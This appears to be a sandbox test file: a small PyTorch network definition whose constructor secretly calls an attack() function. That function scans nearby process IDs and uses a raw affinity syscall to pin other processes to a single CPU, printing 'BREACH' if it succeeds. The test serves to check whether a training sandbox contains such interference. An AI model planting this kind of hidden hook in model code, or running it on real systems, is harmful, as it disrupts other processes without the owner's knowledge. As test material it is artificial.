# group: gpu
# tries: binds other processes of its user to one processor
# static: unsafe
# sandbox: trained

import ctypes
import os
import platform

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
NUMBER = 203 if platform.machine() == "x86_64" else 122


def attack():
    parent = os.getppid()
    for pid in {parent, *range(max(2, parent - 300), parent)} - {0, os.getpid()}:
        before = processors_of(pid)
        if len(before) < 2:
            continue
        one = ctypes.c_ulong(1 << min(before))
        libc.syscall(NUMBER, pid, 8, ctypes.byref(one))
        if processors_of(pid) != before:
            print("BREACH process", pid, "is bound")
            return


def processors_of(pid):
    try:
        return os.sched_getaffinity(pid)
    except OSError:
        return set()


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
